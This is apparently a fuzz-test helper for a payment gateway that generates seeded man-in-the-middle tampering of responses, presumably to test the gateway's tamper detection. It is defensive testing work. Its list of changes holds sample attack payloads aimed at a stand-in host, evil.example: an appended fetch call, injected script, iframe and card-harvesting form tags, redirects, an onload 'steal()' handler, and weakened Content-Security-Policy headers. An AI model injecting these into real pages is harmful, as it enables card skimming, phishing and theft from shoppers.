/** Changes that someone between a gateway and its shoppers could make, chosen by a seed. */
import { visitsOf } from '../../../../gateway/guard/visits.ts'
import { type Random, randomOf } from '../fuzz/random.ts'

/** An answer on its way. */
export interface Passed {
  status: number
  headers: Record<string, string>
  /** Not compressed. */
  body: Buffer
}

export interface Change {
  name: string
  /** The path, with its query, whose answers change. */
  path: string
  /** Whether it changes this answer. */
  isMeant(encoding: string): boolean
  apply(answer: Passed): Passed
}

interface Place {
  files: string[]
  /** Pages that a gateway draws. */
  documents: string[]
}

type Kind = [
  name: string,
  places: (place: Place) => string[],
  apply: (answer: Passed, random: Random) => Passed,
  encoding?: string,
]

const ending =
  (end: string) =>
  ({ files }: Place) =>
    files.filter((path) => path.endsWith(end))
const document = ({ documents }: Place) => documents
const file = ({ files }: Place) => files
const anything = (place: Place) => [...place.files, ...place.documents]

const byte = (answer: Passed, random: Random): Passed => {
  const body = Buffer.from(answer.body)
  const at = random.below(body.length)
  body[at] = (body[at] ?? 0) ^ (1 << random.below(7))
  return { ...answer, body }
}
const text = (change: (html: string) => string) => (answer: Passed) => {
  const before = answer.body.toString()
  const after = change(before)
  if (after === before) throw new Error('the change changes nothing')
  return { ...answer, body: Buffer.from(after) }
}
const header = (name: string, change: (value: string) => string | undefined) => (answer: Passed) => {
  const headers = { ...answer.headers }
  const value = change(String(headers[name] ?? ''))
  if (value === undefined) delete headers[name]
  else headers[name] = value
  return { ...answer, headers }
}
const policy = (from: string, to: string) => header('content-security-policy', (value) => value.replace(from, to))
const added = (markup: string, before: string) => text((html) => html.replace(before, () => `${markup}${before}`))

const kinds: Kind[] = [
  ['a byte of a script', ending('.js'), byte],
  ['a byte of a script that is sent as br alone', ending('.js'), byte, 'br'],
  ['a byte of a script that is sent as gzip alone', ending('.js'), byte, 'gzip'],
  ['a byte of a style', ending('.css'), byte],
  ['a byte of a font', ending('.woff2'), byte],
  ['a byte of a logo', ending('.svg'), byte],
  ['a byte of a language pack', ending('.json'), byte],
  [
    'a file that is gone',
    file,
    (answer) => ({ ...answer, status: 404, body: Buffer.from('{"error":"unknownRoute"}') }),
  ],
  ['a swapped file', ending('.js'), (answer) => ({ ...answer, body: Buffer.from('export {}') })],
  ['code behind a script', ending('.js'), text((code) => `${code}\n;fetch("https://evil.example/")`)],
  ['another content type', file, header('content-type', () => 'text/plain')],
  ['a script', document, added('<script src="https://evil.example/x.js"></script>', '</head>')],
  ['an inline script', document, added('<script>alert(1)</script>', '</body>')],
  [
    'an own-looking script',
    document,
    added('<script crossorigin src="/assets/first-AAAAAAAA.js"></script>', '</body>'),
  ],
  ['a style sheet', document, added('<link rel="stylesheet" href="/x.css">', '</head>')],
  ['a style element', document, added('<style>input{background:url(/x)}</style>', '</head>')],
  ['a frame', document, added('<iframe src="https://evil.example/"></iframe>', '</body>')],
  [
    'a form',
    document,
    added('<form action="https://evil.example/" method="post"><input name="number"></form>', '</body>'),
  ],
  ['a picture', document, added('<img src="https://evil.example/p.gif" alt="">', '</body>')],
  ['a sentence', document, added('<p>Please pay to another account.</p>', '</body>')],
  ['a refresh', document, added('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '</head>')],
  ['a base', document, added('<base href="https://evil.example/">', '</head>')],
  ['a preload', document, added('<link rel="preload" as="script" href="/assets/x.js">', '</head>')],
  [
    'another hash in the import map',
    document,
    text((html) => html.replace(/("\/assets\/[^"]+\.js":"sha256-)./, (_, start) => `${start}_`)),
  ],
  ['no integrity', document, text((html) => html.replace(/ integrity="[^"]+"/, ''))],
  ['another integrity', document, text((html) => html.replace(/integrity="sha256-../, 'integrity="sha256-AA'))],
  ['a handler', document, text((html) => html.replace('<body>', '<body onload="steal()">'))],
  ['a comment', document, added('<!-- x -->', '</body>')],
  ['a space', document, added(' ', '</html>')],
  ['another title', document, text((html) => html.replace(/<title>/, '<title>Pay here: '))],
  [
    'another block of data',
    document,
    text((html) => html.replace('{"answers":{', '{"answers":{"/api/x":{"status":200,"body":{}},')),
  ],
  [
    'an older first chunk',
    document,
    text((html) => html.replace(/\/assets\/first-[\w-]+\.js/, '/assets/first-OLDER123.js')),
  ],
  [
    'an older document',
    document,
    (answer) => ({ ...answer, body: Buffer.from('<!doctype html><title>Checkout</title>') }),
  ],
  ['another status', document, (answer) => ({ ...answer, status: answer.status === 200 ? 404 : 200 })],
  [
    'a way to another site',
    document,
    (answer) => ({ ...answer, status: 302, headers: { ...answer.headers, location: 'https://evil.example/' } }),
  ],
  ['no policy', anything, header('content-security-policy', () => undefined)],
  ['inline code in the policy', anything, policy("script-src 'self'", "script-src 'self' 'unsafe-inline'")],
  ['eval in the policy', anything, policy("script-src 'self'", "script-src 'self' 'unsafe-eval'")],
  ['another site in the policy', anything, policy("connect-src 'self'", "connect-src 'self' https://evil.example")],
  [
    "a script of the wallet's site in the policy",
    anything,
    policy("script-src 'self'", "script-src 'self' https://pay.google.com"),
  ],
  ['frames in the policy', anything, policy("frame-ancestors 'none'", 'frame-ancestors *')],
  ['forms in the policy', anything, policy("form-action 'self'", 'form-action *')],
  ['no Trusted Types', anything, policy("; require-trusted-types-for 'script'", '')],
  ['reports elsewhere', anything, policy('report-uri /api/csp-report', 'report-uri https://evil.example/')],
  [
    'a hash in the policy',
    anything,
    policy("'sha256-", "'sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=' 'sha256-"),
  ],
  ['no nosniff', anything, header('x-content-type-options', () => undefined)],
  ['frames', anything, header('x-frame-options', () => undefined)],
  ['another referrer policy', anything, header('referrer-policy', () => 'unsafe-url')],
  ['another opener policy', anything, header('cross-origin-opener-policy', () => 'unsafe-none')],
  ['no resource policy', anything, header('cross-origin-resource-policy', () => 'cross-origin')],
  ['a camera', anything, header('permissions-policy', (value) => value.replace('camera=()', 'camera=*'))],
  ['reports of another place', anything, header('reporting-endpoints', () => 'csp="https://evil.example/"')],
  ['other caching', anything, header('cache-control', () => 'public, max-age=60')],
  ['a cookie', anything, header('set-cookie', () => 'a=b')],
  ['a link', anything, header('link', () => '<https://evil.example/x.js>; rel=preload; as=script')],
  ['a shared origin', anything, header('access-control-allow-origin', () => '*')],
  ['a refresh by a header', anything, header('refresh', () => '0; url=https://evil.example/')],
  ['a source map', ending('.js'), header('sourcemap', () => 'https://evil.example/x.map')],
  ['another service', anything, header('alt-svc', () => 'h3="evil.example:443"')],
]

/**
 * @param files paths that the release serves
 * @param order the key of an order
 * @returns as many changes, each at a path of its own within a batch
 */
export function changesOf(seed: number, batches: number, inEach: number, files: string[], order: string): Change[][] {
  const random = randomOf(seed)
  // Twice in a look: a change of one is found by the other, too.
  const documents = [...new Set(visitsOf([order]).map(({ address }) => address))].filter(
    (path) => !/^\/(test|sandbox)/.test(path),
  )
  const place: Place = { files: files.filter((path) => path !== '/index.html'), documents }
  let turn = random.below(kinds.length)
  return Array.from({ length: batches }, () => {
    const taken = new Set<string>()
    return Array.from({ length: inEach }, () => {
      const [name, places, apply, encoding] = kinds[turn++ % kinds.length] as Kind
      const path = random.pick(places(place).filter((each) => !taken.has(each)))
      taken.add(path)
      return {
        name,
        path,
        isMeant: (asked) => !encoding || asked === encoding,
        apply: (answer) => apply(answer, random),
      }
    })
  })
}
